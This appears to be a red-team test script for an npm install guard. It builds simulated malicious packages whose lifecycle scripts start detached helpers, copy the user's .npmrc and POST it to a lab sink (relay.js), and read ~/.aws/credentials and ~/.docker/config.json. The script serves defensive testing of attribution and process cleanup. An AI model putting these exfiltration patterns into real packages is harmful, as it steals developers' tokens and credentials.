#!/bin/bash
# M05: the package is the record. What one of its lifecycle scripts did counts in the next, and in
# helpers that an earlier one left behind; a monorepo's own scripts are the project's wherever npm
# was started; what merely outlives the command is ended, and accuses nobody.
# vm: no (minutes of emulated npm)
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin M05 'one record for a package'
RT_SCRIPTED=()
# Of a configuration without a token, which packages may read, and are then not trusted as before.
rt_setup() { lab_as_user "$RT_PROJECT" sh -c 'echo fund=false >.npmrc'; }

# ---- preinstall leaves a helper; postinstall reads the npmrc and hands it over by a file; the
# helper uploads 400 KB. Another package's postinstall is killed for a secret: so is its helper.
rt_package relay-x 1.0.0 files preinstall 'node relay.js upload & sleep 0.2'
dir=$LAB/packages/relay-x
cat >"$dir/relay.js" <<'JS'
// upload: waits for the file `found`, and sends it with 400 KB.
// beat: asks the sink again and again.
const fs = require('fs'), http = require('http');
const [host, port] = process.env.RT_SINK.split(':');
const send = (body, then) => {
  const r = http.request({ host, port, method: 'POST', path: '/relay' }, (a) => {
    a.resume();
    a.on('end', then);
  });
  r.on('error', then);
  r.end(body);
};
const started = Date.now();
if (process.argv[2] === 'upload') {
  const wait = () => {
    if (fs.existsSync('found'))
      send(Buffer.concat([Buffer.alloc(400000), fs.readFileSync('found')]), () => {});
    else if (Date.now() - started < 20000) setTimeout(wait, 50);
  };
  wait();
} else {
  const beat = () => Date.now() - started < 20000 &&
    send(`beat ${fs.existsSync('found')}`, () => setTimeout(beat, 50));
  beat();
}
JS
two_scripts() { # NAME PREINSTALL POSTINSTALL
	jq --arg pre "$2" --arg post "$3" '.version = "1.0.1" |
		.scripts = {preinstall: $pre, postinstall: $post}' \
		"$LAB/packages/$1/package.json" >"$LAB/p.json" &&
		cat "$LAB/p.json" >"$LAB/packages/$1/package.json" && lab_publish "$LAB/packages/$1"
}
two_scripts relay-x "RT_SINK=$RT_SINK setsid node relay.js upload >/dev/null 2>&1 & sleep 0.3" \
	'cp "$INIT_CWD/.npmrc" found; sleep 1'
RT_ATTACKERS[-1]='relay-x 1.0.1 preinstall'
rt_control relay
rt_ok 'the helper has sent 400 KB' rt_eventually 5 [ "$(lab_sink web bytes)" -gt 400000 ]
if rt_guarded relay; then
	rt_is 'exit status' "$RT_STATUS" 86
	rt_ok 'the upload did not get through' [ "$(lab_sink web bytes)" -lt 400000 ]
	rt_is 'canaries at the sink' "$(lab_leaked web)" ''
	rt_no_survivors
fi

RT_DEPENDENCIES=() RT_ATTACKERS=()
rt_package beat-x 1.0.0 files preinstall true
cp "$dir/relay.js" "$LAB/packages/beat-x/"
two_scripts beat-x "RT_SINK=$RT_SINK setsid node relay.js beat >/dev/null 2>&1 & sleep 0.3" \
	': >found; sleep 0.5; cat ~/.aws/credentials; sleep 2'
RT_ATTACKERS=('beat-x 1.0.1 postinstall')
rt_control beat
rt_ok 'the helper goes on' [ "$(rt_requests | grep -c relay)" -gt 10 ]
if rt_guarded beat; then
	rt_is 'exit status' "$RT_STATUS" 86
	rt_accused beat-x 'secret|credential'
	rt_ok 'the helper dies with the script' [ "$(rt_requests | grep -c relay)" -lt 25 ]
	rt_no_survivors
fi

# ---- Outliving the command is no accusation by itself; after a label it is.
RT_DEPENDENCIES=() RT_ATTACKERS=()
rt_package telemetry-x 1.0.0 - postinstall 'setsid sleep 30 >/dev/null 2>&1 &'
rt_control telemetry
rt_ok 'it outlives npm' [ -n "$(lab_survivors)" ]
if rt_guarded telemetry; then
	rt_peaceful
	rt_ok 'the leftover is in the log, with its package' \
		rt_events event.action=leftover package.name=telemetry-x
fi
RT_DEPENDENCIES=() RT_ATTACKERS=()
rt_package stay-x 1.0.0 - postinstall \
	'cat "$INIT_CWD/.npmrc" >/dev/null; setsid sleep 30 >/dev/null 2>&1 &'
rt_control stay
rt_ok 'it outlives npm' [ -n "$(lab_survivors)" ]
if rt_guarded stay; then
	rt_is 'exit status' "$RT_STATUS" 86
	rt_accused stay-x outlive
	rt_no_survivors
fi

# ---- A monorepo: the root's own scripts, and another part's, are the project's wherever npm
# starts.
RT_DEPENDENCIES=() RT_ATTACKERS=() RT_HONEST=()
monorepo() {
	RT_PROJECT=$RT_HOME/work/mono/packages/a
	mkdir -p "$RT_PROJECT" "$RT_HOME/work/mono/packages/b"
	cat >"$RT_HOME/work/mono/package.json" <<-'JSON'
		{"name":"mono","version":"1.0.0","private":true,"workspaces":["packages/*"],
		 "scripts":{"preinstall":"node login.js"}}
	JSON
	cat >"$RT_HOME/work/mono/login.js" <<-'JS'
		const fs = require('fs'), home = require('os').homedir();
		fs.readFileSync(home + '/.aws/credentials');
		fs.appendFileSync(home + '/.npmrc', '\n; written by login.js\n');
	JS
	echo '{"name":"a","version":"1.0.0"}' >"$RT_PROJECT/package.json"
	echo '{"name":"b","version":"1.0.0","scripts":{"prepare":"cat ~/.docker/config.json"}}' \
		>"$RT_HOME/work/mono/packages/b/package.json"
	chown -R "$LAB_UID:$LAB_GID" "$RT_HOME/work/mono"
}
rt_setup() { monorepo; }
for lane in install prefix; do
	RT_COMMAND=(npm install --no-audit --no-fund)
	[ "$lane" = install ] || RT_COMMAND=(npm --prefix ../.. install --no-audit --no-fund)
	if rt_guarded "mono-$lane"; then
		rt_peaceful
		rt_ok 'the root script ran' grep -q 'written by login.js' "$RT_HOME/.npmrc"
	fi
done
rt_end
